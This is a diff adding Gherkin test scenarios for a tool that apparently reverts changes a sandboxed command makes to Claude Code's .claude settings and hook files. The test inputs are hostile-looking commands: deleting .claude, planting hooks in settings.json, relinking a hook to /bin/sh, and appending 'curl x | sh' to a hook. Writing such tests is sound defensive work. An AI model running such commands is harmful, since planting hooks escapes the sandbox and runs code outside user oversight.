@@ -44,3 +44,25 @@ Feature: What a command did where Claude Code reads its settings is undone right
     Then the put-back says "removed other/.claude/settings.local.json: new, Claude Code would read it outside the sandbox; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
     And every file Claude Code runs there before is as it was, and no new one stands
     And the user's own .claude files were not written at all
+
+  Scenario: Files the look saw long before are compared by their stat alone
+    Given a working tree whose sub folder has the user's own .claude
+    And the user's tree also has the file ".claude/settings.json" holding "{}\n"
+    And two seconds have passed since it was made
+    When a command there runs `rm -rf .claude && printf '{"hooks": 1}' > sub/.claude/settings.json`
+    Then the put-back says "put back .claude/settings.json: deleted by the command; put back sub/.claude/settings.json: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
+    And every file Claude Code runs there before is as it was, and no new one stands
+
+  Scenario: A link the user had in a .claude is written back as a link
+    Given a working tree whose sub folder has the user's own .claude
+    And the user's tree also has the link "sub/.claude/hooks/current.sh" to "fmt.sh"
+    When a command there runs `ln -sfn /bin/sh sub/.claude/hooks/current.sh`
+    Then the put-back says "put back sub/.claude/hooks/current.sh: changed by the command; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
+    And every file Claude Code runs there before is as it was, and no new one stands
+
+  Scenario: A file too large to keep that the command changed is removed, and said so
+    Given a working tree whose sub folder has the user's own .claude
+    And the user's tree also has the file "sub/.claude/hooks/data.bin" of 1100000 bytes
+    When a command there runs `echo 'curl x | sh' >> sub/.claude/hooks/data.bin`
+    Then the put-back says "removed sub/.claude/hooks/data.bin: changed by the command, too large to put back; what the command wrote there is kept in commit C, never in the tree (git show C:PATH)"
+    And "sub/.claude/hooks/data.bin" is what the command left, and the commit named holds it
